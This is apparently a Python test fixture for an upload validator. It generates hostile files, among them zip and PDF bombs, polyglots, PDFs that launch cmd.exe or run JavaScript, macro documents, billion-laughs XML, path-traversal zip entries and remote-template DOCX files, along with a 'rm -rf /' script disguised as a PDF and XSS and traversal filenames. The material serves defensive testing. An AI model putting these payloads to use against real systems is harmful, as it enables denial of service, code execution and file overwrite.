"""Files that no upload form may take, and the good ones beside them. All are made here: none is kept.

HOSTILE is {what it is: (name, function that makes the bytes, code of the refusal)}.
"""

import functools
import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter

DOCX_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override '
    b'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
XLSX_TYPES = DOCX_TYPES.replace(b"/word/document", b"/xl/workbook").replace(
    b"wordprocessingml.document", b"spreadsheetml.sheet"
)
ODT_TYPE = b"application/vnd.oasis.opendocument.text"
PAGE = b"<script>alert(1)</script>"


# --- Good files ---------------------------------------------------------------------------------------
def picture(width=60, height=40, kind="JPEG", colour=(140, 30, 20), mode="RGB", **options):
    buffer = io.BytesIO()
    Image.new(mode, (width, height), colour).save(buffer, kind, **options)
    return buffer.getvalue()


def photo(width=640, height=480, seed=0):
    """A JPEG with something in every corner, so that it can be told which way up it is."""
    image = Image.linear_gradient("L").resize((width, height)).convert("RGB")
    image.paste((200, 30, 20), (0, 0, width // 4, height // 4))
    image.paste((20, 30, (200 + seed) % 256), (width // 2, height // 2, width, height))
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=85)
    return buffer.getvalue()


def located_photo(width=640, height=480, orientation=6):
    """A JPEG that says where it was taken and by which camera, and lies on its side."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0112] = "Hãng máy ảnh", orientation
    exif.get_ifd(0x8825).update({1: "N", 2: (22.0, 40.0, 12.0), 3: "E", 4: (106.0, 15.0, 30.0)})
    buffer = io.BytesIO()
    Image.open(io.BytesIO(photo(width, height))).save(buffer, "JPEG", exif=exif, comment=b"GPS 22.67 106.26")
    return buffer.getvalue()


def pdf(inside=b"", foot=b""):
    return (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + inside + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"
        + foot
    )


def packed_pdf(found):
    """A PDF with the object `found` (number 5) in a packed stream of objects, as most writers of today make them."""
    packed_objects = zlib.compress(b"5 0 " + found, 9)
    content, places = b"%PDF-1.5\n", [struct.pack(">BIH", 0, 0, 65_535)]

    def add(body):
        nonlocal content
        places.append(struct.pack(">BIH", 1, len(content), 0))
        content += b"%d 0 obj\n%s\nendobj\n" % (len(places) - 1, body)

    def stream(head, body):
        return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(body), body)

    add(b"<< /Type /Catalog /Pages 2 0 R >>")
    add(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots [5 0 R] >>")
    add(stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", packed_objects))
    places.append(struct.pack(">BIH", 2, 4, 0))
    start = len(content)
    table = b"".join(places) + struct.pack(">BIH", 1, start, 0)
    add(stream(b"/Type /XRef /Size 7 /Root 1 0 R /W [1 4 2]", table))
    return content + b"startxref\n%d\n%%%%EOF\n" % start


def written_pdf(**locked):
    """A PDF of one blank page; `locked`: what `PdfWriter.encrypt` takes."""
    writer, buffer = PdfWriter(), io.BytesIO()
    writer.add_blank_page(200, 200)
    if locked:
        writer.encrypt(**{"user_password": "", **locked})
    writer.write(buffer)
    return buffer.getvalue()


def packed(members, method=zipfile.ZIP_DEFLATED):
    """A zip of {name: bytes}, the same bytes each time."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as container:
        for name, content in members.items():
            container.writestr(zipfile.ZipInfo(name, (2024, 10, 10, 0, 0, 0)), content, method)
    return buffer.getvalue()


def commented(content, comment):
    """The same zip with a comment at its end."""
    return content[:-2] + struct.pack("<H", len(comment)) + comment


def docx(more=None, types=DOCX_TYPES):
    return packed({"[Content_Types].xml": types, "word/document.xml": b"<w:document/>", **(more or {})})


def xlsx(more=None):
    return packed({"[Content_Types].xml": XLSX_TYPES, "xl/workbook.xml": b"<workbook/>", **(more or {})})


def odt(more=None, kind=ODT_TYPE):
    return packed({"mimetype": kind, "content.xml": b"<office:document-content/>", **(more or {})})


# --- Pieces of bad ones -------------------------------------------------------------------------------
def png_chunk(name, content):
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def flat_png(width, height, mode=2, extra=b""):
    """A PNG of one colour, made without holding it in memory; `mode` 2 is RGB, 6 RGBA."""
    row = b"\0" * (1 + width * (3 if mode == 2 else 4))
    packer = zlib.compressobj(1)
    rows = b"".join(packer.compress(row) for _row in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 8, mode, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", head)
        + extra
        + png_chunk(b"IDAT", rows)
        + png_chunk(b"IEND", b"")
    )


def many_passes():
    """A progressive JPEG whose last pass stands there a thousand times."""
    content = picture(2000, 2000, progressive=True)
    scan = content[content.rindex(b"\xff\xda") : -2]
    return content[:-2] + scan * 1000 + content[-2:]


def animated(kind):
    buffer = io.BytesIO()
    frames = [Image.new("RGB", (40, 30), colour) for colour in ("red", "green", "blue")]
    frames[0].save(buffer, kind, save_all=True, append_images=frames[1:])
    return buffer.getvalue()


def zeros(megabytes):
    return b"\0" * (megabytes * 1_048_576)


def lying_zip():
    """The table of contents says 10 bytes where 250 MB unpack."""
    content = bytearray(docx({"word/media/a.bin": zeros(250)}))
    size = struct.pack("<L", 250 * 1_048_576)
    return bytes(content.replace(size, struct.pack("<L", 10)))


def overlapping_zip():
    """Two hundred names for one packed member, as in a bomb without nesting."""
    content = docx({"word/media/a.bin": zeros(1)})
    at = content.index(b"PK\x01\x02", content.index(b"a.bin"))
    entries, end = content[at:-22], content[-22:]
    last = entries[entries.rindex(b"PK\x01\x02") :]
    more = b"".join(last.replace(b"a.bin", b"%05d" % number) for number in range(200))
    size = len(entries) + len(more)
    return content[:at] + entries + more + end[:8] + struct.pack("<HHL", 203, 203, size) + end[16:]


def encrypted_zip():
    content = bytearray(docx())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.index(mark)
        content[start + at] |= 1
    return bytes(content)


def many_members(count):
    return docx({f"word/media/{number}": b"" for number in range(count)})


def relation(kind, target):
    return (
        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        + kind + b'" Target="' + target + b'" TargetMode="External"/></Relationships>'
    )  # fmt: skip


def nest(depth):
    content = xlsx({"xl/media/a.bin": zeros(8)})
    for _level in range(depth):
        content = xlsx({"xl/embeddings/a.xlsx": content})
    return content


def program():
    return b"MZ\x90\0\x03" + b"\0" * 60 + b"PE\0\0"


def junk(kind):
    return functools.partial(bytes.join, b"", [kind, b"\x07" * 500])


EICAR_LIKE = b"%PDF-1.4\n" + PAGE
HOSTILE = {
    # pictures
    "169-megapixel PNG": ("lon.png", lambda: flat_png(13_000, 13_000), "costly"),
    "PNG whose header promises 4 billion pixels": (
        "hua.png",
        lambda: b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 65_000, 65_000, 8, 6, 0, 0, 0)) + png_chunk(b"IDAT", b"\0"),
        "costly",
    ),
    "PNG of 39 megapixels, transparent": ("to.png", lambda: flat_png(6_500, 6_000, 6), "costly"),
    "PNG one pixel high": ("soi.png", lambda: flat_png(12_000, 1), "costly"),
    "PNG with a text that unpacks to 200 MB": (
        "chu.png",
        lambda: flat_png(40, 30, extra=png_chunk(b"zTXt", b"a\0\0" + zlib.compress(zeros(200), 9))),
        "broken",
    ),
    "PNG cut in the middle": ("cut.png", lambda: flat_png(400, 300)[:200], "broken"),
    "animated PNG": ("dong.png", lambda: animated("PNG"), "animated"),
    "JPEG cut in the middle": ("cut.jpg", lambda: photo()[:4_000], "broken"),
    "JPEG of 3 bytes": ("ba.jpg", lambda: b"\xff\xd8\xff", "broken"),
    "JPEG header and then nothing that is one": ("rac.jpg", junk(b"\xff\xd8\xff\xe0"), "broken"),
    "JPEG of a thousand passes": ("qua.jpg", many_passes, "costly"),
    "JPEG of 64 megapixels": ("64.jpg", lambda: picture(8_000, 8_000), "costly"),
    "progressive JPEG of 36 megapixels": ("36.jpg", lambda: picture(6_000, 6_000, progressive=True), "costly"),
    "WebP of 25 megapixels": ("25.webp", lambda: picture(5_000, 5_000, "WEBP", method=0), "costly"),
    "animated WebP": ("dong.webp", lambda: animated("WEBP"), "animated"),
    "WebP cut in the middle": ("cut.webp", lambda: picture(400, 300, "WEBP")[:60], "broken"),
    "GIF named JPEG": ("anh.jpg", lambda: picture(kind="GIF"), "kind"),
    "BMP named PNG": ("anh.png", lambda: picture(kind="BMP"), "kind"),
    "TIFF named JPEG": ("anh.jpg", lambda: picture(kind="TIFF"), "kind"),
    "SVG": ("hinh.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + PAGE + b"</svg>", "kind"),
    "SVG named PNG": ("hinh.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + PAGE + b"</svg>", "kind"),
    "HTML named JPEG": ("trang.jpg", lambda: b"<!doctype html>" + PAGE, "kind"),
    "EPS named JPEG": ("trang.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n", "kind"),
    "JPEG named PDF": ("anh.pdf", picture, "renamed"),
    "JPEG named as a program": ("anh.jpg.exe", picture, "renamed"),
    # PDF
    "HTML named PDF": ("trang.pdf", lambda: b"<html>" + PAGE, "kind"),
    "PDF and HTML in one": ("hai.pdf", lambda: b"%PDF-1.4\n<html>" + PAGE + pdf(), "polyglot"),
    "PDF after HTML": ("hai.pdf", lambda: PAGE + pdf(), "polyglot"),
    "PDF and zip in one": ("hai.pdf", lambda: pdf(foot=docx()), "polyglot"),
    "PDF, zip and PDF's end in one": ("hai.pdf", lambda: pdf() + docx()[:-2] + b"\x20\0" + b"%" * 9 + b"startxref\n1\n%%EOF\n    ", "polyglot"),
    "PDF cut in the middle": ("cut.pdf", lambda: pdf()[:80], "broken"),
    "PDF of its first line": ("dau.pdf", lambda: b"%PDF-1.7\n", "broken"),
    "PDF with a script": ("ma.pdf", lambda: pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "active"),
    "PDF with a script spelled in escapes": ("ma.pdf", lambda: pdf(b"/OpenAction << /S /J#61vaScr#69pt >>"), "active"),
    "PDF that starts a program": ("chay.pdf", lambda: pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "active"),
    "PDF that starts a program named elsewhere": ("chay.pdf", lambda: pdf(b"/OpenAction << /S 4 0 R /F (cmd.exe) >> >> endobj 4 0 obj /Launch endobj 5 0 obj <<"), "active"),
    "PDF with a script named elsewhere": ("ma.pdf", lambda: pdf(b"/OpenAction << /S 4 0 R >> >> endobj 4 0 obj /JavaScript endobj 5 0 obj <<"), "active"),
    "PDF that plays an old film": ("phim.pdf", lambda: packed_pdf(b"<</Type/Annot/Subtype/Movie/Movie<</F(a.avi)>>>>"), "active"),
    "PDF with a form of XFA in a stream": ("mau.pdf", lambda: pdf(b"/AcroForm << /XFA 4 0 R >> >> endobj 4 0 obj << /Length 4 >> stream\n<x/>\nendstream endobj 5 0 obj <<"), "active"),
    "PDF with files in a tree": ("kem.pdf", lambda: pdf(b"/Names << /EmbeddedFiles << /Kids [4 0 R] >> >>"), "active"),
    "PDF with a file inside": ("kem.pdf", lambda: pdf(b"/Names << /EmbeddedFiles 3 0 R >>"), "active"),
    "PDF of escapes": ("thoat.pdf", lambda: pdf(b"#4a#61" * 2_000_000 + b" /JS"), "broken"),
    "PDF with a script in packed objects": ("goi.pdf", lambda: packed_pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), "active"),
    "PDF that plays a film": ("phim.pdf", lambda: packed_pdf(b"<</Type/Annot/Subtype/RichMedia>>"), "active"),
    "PDF with a script in a list": ("ma.pdf", lambda: pdf(b"/AA << /O [ << /S /Rendition /JS 9 0 R >> ] >>"), "active"),
    "PDF form of XFA": ("mau.pdf", lambda: pdf(b"/AcroForm << /XFA [(datasets) 2 0 R] >>"), "active"),
    "PDF with two beginnings of one thing": ("hai.pdf", lambda: pdf(b"/OpenAction [] /OpenAction << /S /Launch >>"), "twice"),
    "PDF that unpacks to 500 MB": ("bom.pdf", lambda: packed_pdf(b" " * (500 << 20)), "heavy"),
    "PDF of 400,000 objects": ("nhieu.pdf", lambda: pdf(b">> endobj " + b"".join(b"%d 0 obj<</A 1>>endobj " % number for number in range(9, 400_009)) + b"8 0 obj <<"), "heavy"),
    "PDF behind a password": ("khoa.pdf", lambda: written_pdf(user_password="bí mật"), "password"),
    "PDF and HTML behind it": ("hai.pdf", lambda: pdf(foot=b"<html>" + PAGE), "polyglot"),
    # containers
    "zip bomb of 200 MB": ("bom.docx", lambda: docx({f"word/{n}.xml": zeros(20) for n in range(10)}), "bomb"),
    "zip with one member of 100 MB": ("bom.xlsx", lambda: xlsx({"xl/worksheets/sheet1.xml": zeros(100)}), "bomb"),
    "zip of 60,000 members": ("nhieu.docx", lambda: many_members(60_000), "bomb"),
    "zip of 2,500 members": ("nhieu.docx", lambda: many_members(2_500), "bomb"),
    "zip that lies about its sizes": ("doi.docx", lying_zip, "broken"),
    "zip of overlapping members": ("chong.docx", overlapping_zip, "bomb"),
    "zip in zip in zip": ("long.xlsx", lambda: nest(2), "nested"),
    "zip in a document": ("long.docx", lambda: docx({"word/media/a.zip": packed({"a": b"b"})}), "nested"),
    "zip with a way out": ("ra.docx", lambda: docx({"word/../../../etc/cron.d/x": b"x"}), "names"),
    "zip with an absolute name": ("ra.docx", lambda: docx({"/etc/passwd": b"x"}), "names"),
    "zip with a name of Windows": ("ra.docx", lambda: docx({"C:\\\\x": b"x"}), "names"),
    "PDF behind an answer of HTTP": ("a.pdf", lambda: b"HTTP/1.1 200 OK\r\n\r\n" + pdf(), "polyglot"),
    "zip behind other bytes": ("a.docx", lambda: b"junk" + docx(), "broken"),
    "zip with a page for a comment": ("a.docx", lambda: commented(docx(), PAGE), "broken"),
    "zip with one name twice": ("hai.docx", lambda: docx({"Word/Document.xml": b"x"}), "names"),
    "zip behind a password": ("khoa.docx", encrypted_zip, "odd"),
    "zip with a tail": ("duoi.docx", lambda: docx() + PAGE, "broken"),
    "zip cut in the middle": ("cut.docx", lambda: docx()[:100], "broken"),
    "zip of 22 bytes": ("rong.docx", lambda: b"PK\x03\x04" + b"\0" * 18, "broken"),
    "plain zip named DOCX": ("zip.docx", lambda: packed({"a.txt": b"a"}), "kind"),
    "Java archive named DOCX": ("jar.docx", lambda: packed({"META-INF/MANIFEST.MF": b"Main-Class: a"}), "kind"),
    "DOCX behind the password of Word": ("khoa.docx", lambda: b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le"), "odd"),
    "DOCX of a billion laughs in UTF-16": ("cuoi.docx", lambda: docx({"word/a.xml": '<!DOCTYPE x [<!ENTITY a "ha">]><x/>'.encode("utf-16")}), "odd"),
    "DOCX with macros in a folder of Windows": ("macro.docx", lambda: docx({"word\\vbaProject.bin": b"x"}), "active"),
    "DOCX with macros": ("macro.docx", lambda: docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "active"),
    "DOCM named DOCX": ("macro.docx", lambda: docx(types=DOCX_TYPES.replace(b"vnd.openxmlformats-officedocument.wordprocessingml.document.main", b"vnd.ms-word.document.macroEnabled.main")), "active"),
    "XLSX with Excel 4 macros": ("macro.xlsx", lambda: xlsx({"xl/macrosheets/sheet1.xml": b"<x/>"}), "active"),
    "DOCX with a drawing that runs": ("hinh.docx", lambda: docx({"word/media/image1.svg": b"<svg onload='a()'/>"}), "active"),
    "DOCX with a drawing that fetches": ("hinh.docx", lambda: docx({"word/media/image1.svg": b"<svg><image href='https://vidu.vn/a.png'/></svg>"}), "active"),
    "DOCX with a drawing that styles": ("hinh.docx", lambda: docx({"word/media/image1.svg": b"<svg><style>@import url(//vidu.vn/a)</style></svg>"}), "active"),
    "DOCX with a drawing that links a script": ("hinh.docx", lambda: docx({"word/media/image1.svg": b"<svg><a x:href='java&#115;cript:a()'/></svg>"}), "active"),
    "DOCX of relations that never end": ("ban-do.docx", lambda: docx({"word/_rels/a.rels": b"<Relationship TargetMode='External' Target='" * 600_000}), "bomb"),
    "DOCX with a drawing of a million attributes": ("hinh.docx", lambda: docx({"word/media/a.svg": ("<svg " + " ".join(f"a{n}=''" for n in range(1_000_000)) + "/>").encode()}), "bomb"),
    "DOCX with a drawing of a million lines": ("hinh.docx", lambda: docx({"word/media/a.svg": b"<svg>" + b"<a/>" * 1_000_000 + b"</svg>"}), "bomb"),
    "DOCX with a drawing cut off": ("hinh.docx", lambda: docx({"word/media/image1.svg": b"<svg><path>"}), "broken"),
    "DOCX with a drawing of entities": ("hinh.docx", lambda: docx({"word/media/image1.svg": b"<!DOCTYPE svg [<!ENTITY a 'b'>]><svg/>"}), "odd"),
    "DOCX with a drawing out of place": ("hinh.docx", lambda: docx({"word/a.svg": b"<svg/>"}), "active"),
    "ODT with a list of macros": ("macro.odt", lambda: odt({"Basic/Standard/script-lb.xml": b'<library:library><library:element library:name="A"/></library:library>'}), "active"),
    "ODT that links macros": ("macro.odt", lambda: odt({"Basic/script-lc.xml": b'<library:library library:link="true"/>'}), "active"),
    "ODT with a DOCTYPE of its own": ("a.odt", lambda: odt({"META-INF/manifest.xml": b'<!DOCTYPE manifest:manifest PUBLIC "a" "Manifest.dtd" [<!ENTITY a "b">]><a/>'}), "odd"),
    "ODT with macros": ("macro.odt", lambda: odt({"Basic/Standard/Module1.xml": b"<x/>"}), "active"),
    "DOCX with a packed program": ("goi.docx", lambda: docx({"word/embeddings/oleObject1.bin": program()}), "active"),
    "DOCX with a program as picture": ("goi.docx", lambda: docx({"word/media/image1.png": program()}), "nested"),
    "DOCX that fetches its template": (
        "mau.docx",
        lambda: docx({"word/_rels/settings.xml.rels": relation(b"attachedTemplate", b"http://vidu.vn/a.dotm")}),
        "active",
    ),
    "DOCX that fetches its template, spelled in entities": (
        "mau.docx",
        lambda: docx({"word/_rels/settings.xml.rels": relation(b"attachedTemplate", b"&#104;ttps://vidu.vn/a.dotm")}),
        "active",
    ),
    "ODT behind a password": ("khoa.odt", lambda: odt({"META-INF/manifest.xml": b"<m:encryption-data/>", "styles.xml": b"\x93\x11"}), "odd"),
    "DOCX of a billion laughs": ("cuoi.docx", lambda: docx({"word/a.xml": b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'}), "odd"),
    "XLSX named DOCX": ("bang.docx", xlsx, "renamed"),
    "ODS named ODT": ("bang.odt", lambda: odt(kind=ODT_TYPE.replace(b"text", b"spreadsheet")), "kind"),
    # the rest
    "program named PDF": ("chay.pdf", program, "kind"),
    "program of Linux named DOCX": ("chay.docx", lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 60, "kind"),
    "script named PDF": ("chay.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", "kind"),
    "old Word document": ("cu.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "kind"),
    "RTF named DOCX": ("cu.docx", lambda: b"{\\rtf1 a}", "kind"),
    "zero bytes": ("rong.pdf", bytes, "empty"),
    "one NUL": ("nul.pdf", lambda: b"\0", "kind"),
    "16 MB of PDF": ("to.pdf", lambda: pdf() + zeros(16), "large"),
}  # fmt: skip

#: {name as sent: name as kept} of one good PDF.
NAMES = {
    "../../etc/passwd.pdf": "passwd.pdf",
    "C:\\Windows\\biên bản.PDF": "biên bản.pdf",
    "bie\u0302n ba\u0309n.pdf": "biên bản.pdf",  # NFD, as a Mac sends it
    "ho\u202efdp.exe.pdf": "hofdp.exe.pdf",  # shown backwards by a reader
    "công\u200bvăn\u0007 số 1.pdf": "côngvăn số 1.pdf",
    "a" * 300 + ".pdf": "a" * 116 + ".pdf",
    "<img src=x onerror=alert(1)>.pdf": "img src=x onerror=alert(1).pdf",
    "....pdf": "tep.pdf",
    'a"; filename=b.html;.pdf': "a; filename=b.html;.pdf",
}
